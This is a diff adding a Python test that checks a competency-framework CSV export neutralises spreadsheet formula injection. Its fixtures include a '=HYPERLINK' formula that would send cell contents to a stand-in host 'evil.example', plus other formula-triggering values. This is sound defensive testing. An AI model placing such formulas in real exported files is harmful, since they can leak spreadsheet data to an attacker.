@@ -253,3 +253,46 @@ def test_platform_import_of_an_id_does_not_block_the_operator_nor_show_elsewhere
     listed = alice.get("/api/v1/referentiels").get_json()["referentiels"]
     ours = [r for r in listed if real.id in r["id"]]
     assert [(r["id"], r["intitule"]) for r in ours] == [(real.id, real.intitule)]
+
+
+# -- CSV export: no formula for a spreadsheet -------------------------------------------------
+
+
+def test_csv_cell_hyperlink_formula_is_neutralised() -> None:
+    import csv
+
+    from referentiels.importers import import_file
+    from referentiels.importers.moodle_csv import export_csv, read_csv, restore_cell
+    from referentiels.model import Bloc, Competence
+
+    real = import_file(RECYCLERIE, "moodle-csv")[0]
+    wordings = [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")',
+        "- nettoyer les sols",
+        "+33 appeler le client",
+        "@SOMME(A1:A9)",
+        "'=déjà entre apostrophes",
+    ]
+    hostile = dataclasses.replace(
+        real,
+        intitule="=1+1",
+        blocs=(
+            Bloc(
+                code="B1", intitule="-Bloc",
+                competences=tuple(
+                    Competence(code=f"C{n}", intitule=w) for n, w in enumerate(wordings, 1)
+                ),
+            ),
+        ),
+    )
+    text = export_csv(hostile)
+    for cells in csv.reader(io.StringIO(text)):
+        for cell in cells:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert restore_cell("'\tx") == "\tx" and restore_cell("'Accueil'") == "'Accueil'"
+    # The round trip gives back the very wording.
+    back = read_csv(text, "export.csv")
+    assert back.intitule == "=1+1"
+    assert [c.intitule for c in back.competences()] == wordings
+    assert back.blocs[0].intitule == "-Bloc"
+    assert back == hostile
